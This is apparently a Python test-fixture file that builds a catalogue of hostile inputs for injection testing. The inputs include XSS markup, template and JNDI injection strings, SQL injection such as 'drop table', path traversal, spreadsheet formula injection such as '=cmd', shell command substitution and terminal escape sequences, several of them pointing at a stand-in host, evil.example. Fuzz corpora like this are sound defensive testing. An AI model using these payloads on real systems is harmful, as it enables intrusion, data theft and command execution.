"""Texts that would be markup, programs, formulas or commands, wherever they are taken for more than text."""

DO = "window.__pwned=1"
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
MARKUP = [
    f"<script>{DO}</script>", f"</script><script>{DO}</script>", f"<SCRIPT>{DO}</SCRIPT>", f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<script src=data:text/javascript,{DO}></script>", "<script src=//evil.example/x.js></script>", f"<script>{DO}//",
    *(f"<img src=x {event}='{DO}'>" for event in EVENTS), *(f"<svg {event}={DO}>" for event in EVENTS),
    *(f"<body {event}={DO}>" for event in EVENTS[:3]), f"<svg><script>{DO}</script></svg>", f"<svg><animate onbegin={DO} attributeName=x>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>", f"<details open ontoggle={DO}>", f"<input autofocus onfocus={DO}>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'>", "<iframe src=//evil.example>", f"<object data='javascript:{DO}'>", f"<embed src='javascript:{DO}'>",
    f"<a href='javascript:{DO}'>x</a>", f"<a href=' java\tscript:{DO}'>x</a>", f"<form action='javascript:{DO}'><button>x", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css'</style>", f"<video><source onerror={DO}>", f"<marquee onstart={DO}>", "<img src=//evil.example/x.png>",
    f"<!--><img src=x onerror={DO}>-->", f"<![CDATA[<img src=x onerror={DO}>]]>", f"<?xml version='1.0'?><x onload={DO}/>", f"'\"><img src=x onerror={DO}>",
    f"`\"'><img src=x onerror={DO}>", f"\" onmouseover=\"{DO}", f"' autofocus onfocus='{DO}", f"&lt;script&gt;{DO}&lt;/script&gt;", f"&#60;script&#62;{DO}",
    f"%3Cscript%3E{DO}%3C/script%3E", f"\\u003cscript\\u003e{DO}", f"\\x3cscript\\x3e{DO}", f"<template><script>{DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>", f"<xmp><img src=x onerror={DO}></xmp>", f"<textarea></textarea><img src=x onerror={DO}>",
    f"<title></title><script>{DO}</script>", f"<select><option onclick={DO}>", "<plaintext>", "<portal src=//evil.example>", f"<x contenteditable onblur={DO}>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in range(10**9) %}x{% endfor %}", "{{ ''.__class__.__mro__ }}", "{{constructor.constructor('x')()}}",
    "{{config}}", "${jndi:ldap://evil.example/x}", "{{#each}}", "[[${7*7}]]", "*{7*7}", "@(7*7)", "{{=7*7}}", f"[x](javascript:{DO})", "![x](//evil.example/x.png)",
    "[x]: //evil.example", "# title\n\n* list", "```js\nx\n```", "datum.value", "{\"expr\": \"window.alert(1)\"}", "{\"signal\": \"open()\"}", "{\"href\": \"javascript:alert(1)\"}",
    "{\"url\": \"//evil.example/data.json\"}", "[bold red]x[/bold red]", "[link=//evil.example]x[/link]", "%s%s%s%n", "%(x)s", "{0.__class__}", "{__import__('os')}", "$(touch x)", "`touch x`",
    "; touch x", "| touch x", "&& touch x", "$IFS", "~root", "!!", "__import__('os').system('touch x')",
]  # fmt: skip
PLACES = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1:9/", "//evil.example", "s3://evil/x", "C:\\x", "%2e%2e%2fetc", "%00", "a%2fb", "a/b/c",
    "?k=1", "#fragment", "a?b=c&d=e#f", "a b+c", "javascript:alert(1)", f"javascript:{DO}", "data:text/html,<script>1</script>", "vbscript:x", "nearfar://x", "con", "nul.txt", "*", "a:b", ";", "~",
]  # fmt: skip
CONDITIONS = [
    "' or '1'='1", "\" or 1=1", "x'; drop table documents; --", "id = 'x' or true", "year >= 2000", "true", "not", "and", "`", "``", "\\", "\\\"", "'", '"', "/* */", "--", ") or (1=1", "%", "_", "a%b_c",
    "CAST(x AS int)", "x::int", "NULL", "null", "NaN", "undefined", "None", "-1", "1e400", "0x41",
]  # fmt: skip
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
TERMINAL = [
    "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]8;;//evil.example\x07x\x1b]8;;\x07", "\x1b[6n", "\x1bP$q\x1b\\", "\x1b]52;c;eA==\x07", "\x9b31m", "\x9d0;owned\x9c", "\x08\x08\x08",
    "a\rb", "\x07", "\x0e", "line\nERROR: forged line of a log", "a\r\nSet-Cookie: x=1", "\x1b[1A\x1b[2K",
]  # fmt: skip
CONTROLS = [
    f"control {code:02x} {chr(code)} x" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160))
]
UNICODE = [
    "\ufeffbyte order mark", "\u202egnp.exe", "\u202dx\u202c", "\u2066x\u2069", "\u200bzero\u200bwidth\u200b", "\u200d\u200c", "\u2060", "\u00ad", "\u034f", "\u115f\u3164", "\ufffe", "\uffff", "\U0010ffff",
    "\u2028line\u2029paragraph", "Z\u0351\u036b\u0343\u036a\u0302" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "𝒳 𝔘𝔫𝔦", "ﷺ" * 30, "ｊａｖａｓｃｒｉｐｔ：", "＜script＞", "ʼ OR 1=1", "İstanbul ı ß ﬁ",
    "\u0000".replace("\0", "\u2400"), "á vs á", "ᏎᎪ", "\ue000", "\U000e0041\U000e0042", "क्षि", "ا\u064b" * 30,
]  # fmt: skip
SIZES = ["w" * 20_000, "a\n" * 5_000, "<b>" * 3_000, "é" * 5_000, " x" * 3_000]
NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "valueOf", "length", "then", "toJSON"]
PAYLOADS = list(dict.fromkeys([*MARKUP, *TEMPLATES, *PLACES, *CONDITIONS, *FORMULAS, *TERMINAL, *CONTROLS, *UNICODE, *SIZES, *NAMES]))  # fmt: skip


def group(number):
    """A word that ten documents have."""
    return f"zq{chr(97 + number // 26)}{chr(97 + number % 26)}x"


def documents():
    """A document for each: it is in the id, the text, a value, a list, and a word of its own finds it."""
    return [
        {"id": f"h{number} {text}"[:1000], "text": f"q{number}q hostile {group(number // 10)} {text}", "author name": text, "tags": [text], "year": number}
        for number, text in enumerate(PAYLOADS)
    ]  # fmt: skip


def quoted(text):
    """A text as a value of a filter."""
    for sign, written in (("\\", "\\\\"), ('"', '\\"'), ("\n", "\\n"), ("\t", "\\t")):
        text = text.replace(sign, written)
    return f'"{text}"'
